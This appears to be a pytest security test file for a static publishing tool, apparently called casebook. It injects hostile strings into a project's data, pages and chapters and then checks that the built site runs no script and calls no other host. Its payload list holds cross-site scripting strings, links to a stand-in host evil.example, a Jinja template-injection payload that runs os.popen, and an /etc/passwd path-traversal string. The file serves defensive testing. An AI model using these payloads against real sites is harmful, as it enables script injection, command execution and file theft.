"""A poisoned fork: every cell that may hold words tries to run script, to call another host, or to break out of where it stands."""

from __future__ import annotations

import base64
import csv
import io
import itertools
import json
import random
import re
import zipfile

import pytest
import yaml
from lxml import etree, html
from playwright.sync_api import Browser

from casebook.csp import digest
from casebook.data.record import Record
from casebook.desk import canonical
from casebook.elements import fault
from casebook.errors import Problem
from casebook.parse import read
from casebook.project import Project
from casebook.stage import finished
from tests.conftest import casebook, copy_starter
from tests.site.browsing import served

POISON = [
    "<script>hit('script')</script>",
    "<img src=x onerror=hit('image')>",
    "\"><svg onload=hit('svg')>",
    "'><details open ontoggle=hit('toggle')>",
    "</script><script>hit('linked data')</script>",
    "</textarea><script>hit('snippet')</script>",
    "</title><script>hit('title')</script>",
    "so -->  <script>hit('comment')</script>",
    "[click](javascript:hit('link'))",
    "<a href=\"javascript:hit('anchor')\">click</a>",
    "![picture](https://evil.example/picture.png)",
    "<iframe src=https://evil.example/></iframe>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<style>@import url(https://evil.example/x.css)</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "{raw:html}`<script>hit('role')</script>`",
    "```{raw} html",
    ":::{raw} html",
    "{{ ''.__class__ }} {% raw %}",
    "${alert(1)} $$\\href{javascript:hit('math')}{x}$$",
    "%hit \u0027 &lt;script&gt;hit('twice')&lt;/script&gt;",
    "<a href='https://evil.example/label'>label</a>",
    "<span style='position:fixed'>styled</span>",
    "<img srcset='https://evil.example/x.png 2x'>",
    "<video poster=https://evil.example/x.png></video>",
    "<form action=https://evil.example/><button formaction=https://evil.example/>go</button></form>",
    "<iframe srcdoc='<script src=../data/x.js></script>'></iframe>",
    "<p style='background:url(https://evil.example/x.png)'>",
    "</em></p><meta http-equiv=refresh content=0>",
    "<svg><style><img src=x onerror=hit('svg style')></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'>",
    "<!--><img src=x onerror=hit('comment')>-->",
    "<![CDATA[<img src=x onerror=hit('cdata')>]]>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ '<script>' }} {% for i in range(9) %}",
    "{number}`x` {download}`../../../etc/passwd`",
    "[here][there] [^1] [there]: https://evil.example",
    "<https://evil.example/auto> https://evil.example/bare",
    "(target)= # heading + list - list 1. list",
    "| a | b | *x* _y_ `z` ~~w~~ **v**",
    "---",
    "- a list",
    "1. a list",
    ": a definition",
    "::: {note}",
    "+++",
    "&#60;script&#62;hit('reference')&#60;/script&#62;",
    "\\<script>hit('escaped')\\</script>",
]
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('touch ran').read() }}"
# A chapter that uses all that chapters may use.
CHAPTER = """# Everything

A word, *stressed*, **twice**, ~~struck~~, `code`, <em lang="fr">mot</em>, <a href="../claims.json">file</a>, {sub}`low`{sup}`high`,
{abbr}`AI (artificial intelligence)`, [page](use), [out](https://example.org/), <https://example.org/>.[^1]

[^1]: A note.

(a-target)=
## Lists

1. one
2. two
   - three

> quoted

A term
: its meaning

| left | right |
|:-----|------:|
| a | b |

```{note}
A box with [a link](#a-target) and {verdict}`c1`{source}`leaflet`.
```

:::{warning} In a line
:::

```python
import os  # code that nobody runs
```

    code too

![A picture](dot.png)

---

{record-day}`30` {said}`words`

```{page-sources}
```
"""
WORDS = ("publisher", "title", "note", "claim_en", "measure", "basis", "would_change", "said")


def poisoned(row: dict[str, str], poison: itertools.cycle[str]) -> dict[str, str]:
    return {name: f"Words {next(poison)}" if name in WORDS and (cell or name == "note") else cell for name, cell in row.items()}


@pytest.fixture(scope="module")
def fork(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """The example story with poison in every cell of words, in titles of tables, in a chart's labels and in a page's parameters."""
    project = copy_starter(tmp_path_factory.mktemp("hostile") / "fork")
    root = project.root
    poison = itertools.cycle(POISON)
    package = json.loads((root / "data" / "datapackage.json").read_text("utf-8"))
    water = next(table for table in package["resources"] if table["name"] == "water/use")
    fields = [field for field in water["schema"]["fields"] if field["name"] != "town"]
    said = {"name": "said", "type": "string", "description": "Words <script>hit('description')</script>"}
    hostile = water | {"name": "water/said", "path": "water/said.csv", "title": "Words <script>hit('table')</script>"}
    package["resources"].append(
        json.loads(json.dumps(hostile | {"schema": {"fields": [*fields, said], "primaryKey": ["id"]}}).replace("water/use", "water/said"))
    )
    package["title"] = "Record <script>hit('package')</script>"
    (root / "data" / "datapackage.json").write_text(json.dumps(package), "utf-8")
    changes = (root / "data" / "CHANGES.md").read_text("utf-8")
    (root / "data" / "CHANGES.md").write_text(changes.rstrip() + f"\n- {TEMPLATE}\n", "utf-8")
    record = Record(root / "data")
    rows = [
        {
            "id": f"said-{n}-{year}",
            "event_date": f"{year}-12-31",
            "litres": "5",
            "status": "estimate",
            "source_ids": "leaflet",
            "published_on": "2026-01-31",
            "said": f"Words {words}",
        }
        for n, words in enumerate(POISON)
        for year in (2024, 2025)
    ]
    blank = dict.fromkeys(record.fields("water/said"), "")
    (root / "data" / "water" / "said.csv").write_text(canonical(record, "water/said", [blank | row for row in rows]), "utf-8")
    for table in ("sources", "claims/claims", "claims/verdicts", "water/use"):
        file = root / "data" / f"{table}.csv"
        file.write_text(canonical(record, table, [poisoned(row, poison) for row in record.all_rows(table)]), "utf-8")
    entries = yaml.safe_load((root / "notebooks" / "pages.yml").read_text("utf-8"))
    words = {"title": "Title <script>hit('parameter')</script>", "subtitle": "[x](javascript:hit('subtitle')) <img src=x onerror=hit('sub')>"}
    entries.append(
        {
            "page": "water/said",
            "notebook": "any/lines",
            "parameters": {
                "table_name": "water/said",
                "group": "said",
                "day": "event_date",
                "value": "litres",
                "id": "said",
                "coloured": [f"Words {text}" for text in POISON[:3]],
                "add_up": False,
                "unit": "litres",
                **words,
            },
        }
    )
    (root / "notebooks" / "pages.yml").write_text(yaml.safe_dump(entries), "utf-8")
    (root / "book" / "water" / "everything.md").write_text(f"{CHAPTER}\n{TEMPLATE}\n", "utf-8")
    (root / "book" / "water" / "dot.png").write_bytes(base64.b64decode(DOT))
    toc = (root / "_toc.yml").read_text("utf-8")
    (root / "_toc.yml").write_text(
        toc.replace("caption: The story", "caption: The <script>hit('caption')</script> story").replace(
            "          - file: water/use\n", "          - file: water/use\n          - file: water/said\n          - file: water/everything\n"
        ),
        "utf-8",
    )
    done = casebook(project, "build")
    assert done.returncode == 0, done.stderr
    return project


def test_nothing_runs_and_no_other_host_is_called(fork: Project, browser: Browser) -> None:
    hits: list[str] = []
    foreign: list[str] = []
    with served(fork.site) as address:
        context = browser.new_context()
        context.expose_function("hit", lambda what: hits.append(what))
        context.on("request", lambda request: foreign.append(request.url) if not request.url.startswith((address, "data:", "blob:")) else None)
        page = context.new_page()
        page.on("dialog", lambda dialog: (hits.append("dialog"), dialog.dismiss()))
        pages = [file for file in sorted(fork.site.rglob("*.html")) if "_static" not in file.parts]
        for file in pages:
            page.goto(address + file.relative_to(fork.site).as_posix())
            page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
            for explore in page.locator(".casebook-explore:visible").all():
                explore.click()
                page.wait_for_selector(".js-plotly-plot")
                page.mouse.move(400, 400)
        page.wait_for_timeout(300)
        context.close()
    assert len(pages) > 15 and hits == [] and foreign == []


def test_poison_makes_no_element_attribute_or_address(fork: Project) -> None:
    poison = re.compile(r"evil|hit\(|javascript|srcdoc|onerror")
    shown = 0
    for file in (file for file in fork.site.rglob("*.html") if "_static" not in file.parts):
        for element in html.document_fromstring(file.read_bytes(), html.HTMLParser(encoding="utf-8")).iter(etree.Element):
            shown += bool(poison.search(element.text or ""))
            for name, value in element.attrib.items():
                # What is said of a thing may say anything; where a thing leads, and what it is, may not.
                assert name in ("title", "alt", "aria-label", "content", "data-sort") or not poison.search(name + value), (
                    file,
                    element.tag,
                    name,
                    value,
                )
    assert shown > 100
    figures = [file.read_text("utf-8") for file in (fork.site / "exhibits").glob("*.json")]
    assert any("&lt;" in figure for figure in figures)
    assert not [figure for figure in figures if re.search(r"<(?!(?:br|/?extra)>)", figure)]


def published(body: str) -> str:
    """A page with this body as it would be published; empty where it would not be."""
    try:
        return finished(f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body>{body}'.encode(), "a.html", "/")
    except Problem:
        return ""


def test_the_gate_sees_what_the_browser_sees(browser: Browser) -> None:
    pieces = [
        "<p>", "</p>", "<p title=\"", "\">", "'", "<div>", "</div>", "<a href=x>", "</a>", "<em>", "<table>", "<td>", "</table>", "<ul><li>", "<form>",
        "<noscript>", "</noscript>", "<textarea>", "</textarea>", "<title>", "</title>", "<style>", "</style>", "<!--", "-->", "--!>", "<!-->", "<![CDATA[",
        "]]>", "<svg>", "</svg>", "<math><mi>", "<select>", "<template>", "<xmp>", "</xmp>", "<script>", "</script>", "<body onload=x>", "<html onclick=x>",
        "<img src=x onerror=x>", "<img src=x alt='", "\x00", "/", ">", "<", "</", "<?x", "<!x", "&lt;img onerror=x>", "<b", "<button>", "<h1>", "</br>",
    ]  # fmt: skip
    chance = random.Random(1)
    bodies = ["".join(chance.choices(pieces, k=chance.randint(1, 6))) for _ in range(900)]
    pages = [page for body in bodies if (page := published(body))]
    read_back = [(page, read("a.html", page.encode())) for page in pages]
    passed = [page for page, found in read_back if not found.refused and not found.fault]
    # Written into a frame, a page is parsed as with script, and what it holds is seen before any of it runs.
    seen = """pages => pages.map(page => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.contentDocument.open(); frame.contentDocument.write(page);
        const found = [...frame.contentDocument.querySelectorAll('*')].map(e => [e.localName, Object.fromEntries([...e.attributes].map(a => [a.name, a.value]))]);
        frame.remove(); return found;
    })"""
    page = browser.new_page()
    elements_of = page.evaluate(seen, passed)
    page.close()
    assert 60 < len(passed) < len(pages)
    for text, elements in zip(passed, elements_of, strict=True):
        assert not [(tag, given) for tag, given in elements if fault("a.html", tag, given)], text


def test_no_template_is_filled_in_chapters_and_the_changelog(fork: Project) -> None:
    for name in ("water/everything.html", "methods/changes.html"):
        # What stands between two underscores is set bold, as in any Markdown.
        assert "{{ cycler." in html.fromstring((fork.site / name).read_bytes()).text_content()
    assert not list(fork.root.rglob("ran"))


def test_linked_data_stays_data(fork: Project) -> None:
    pages = [file.read_text("utf-8") for file in fork.site.rglob("*.html")]
    found = [block for page in pages for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL)]
    assert found and all(json.loads(block)["@context"] == "https://schema.org" for block in found)
    assert any("</script>" in json.dumps(json.loads(block)) for block in found)


def test_words_are_shown_as_they_were_written(fork: Project, browser: Browser) -> None:
    said = Record(fork.data).row("claims/claims", "c1")["claim_en"]
    with served(fork.site) as address:
        page = browser.new_page()
        page.goto(f"{address}claims/claim/c1.html")
        # Sphinx sets the quotes of a book.
        assert said.replace("'", "’") in page.inner_text("h1").replace("‘", "’")
        page.close()


def test_downloads_open_in_a_spreadsheet_as_text(fork: Project) -> None:
    tables = [file.read_text("utf-8") for file in (fork.site / "data").rglob("*.csv")]
    for file in fork.site.rglob("*.zip"):
        with zipfile.ZipFile(file) as archive:
            tables += [archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".csv")]
    cells = [cell for table in tables for row in csv.reader(io.StringIO(table)) for cell in row]
    assert len(cells) > 1000 and not [cell for cell in cells if re.match(r"[=+@\t\r]|-(?!\d)", cell)]


def test_every_page_has_a_policy_that_names_only_the_themes_scripts(fork: Project) -> None:
    for file in fork.site.rglob("*.html"):
        if "_static" not in file.parts:
            policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', file.read_text("utf-8"))
            assert policy and "unsafe-inline" not in policy[1].split("style-src")[0] and "http" not in policy[1], file


def test_a_script_in_the_body_is_named_by_no_policy() -> None:
    """Not even the theme's own words may run there."""
    page = finished(b'<html><head><meta charset="utf-8"><script>own()</script></head><body><script>hit()</script></body></html>', "a.html", "/")
    policy = re.findall(r"script-src ([^;]*);", page)
    assert policy == [f"'self' '{digest('own()')}'"] and read("a.html", page.encode()).refused == [(2, "a script")]
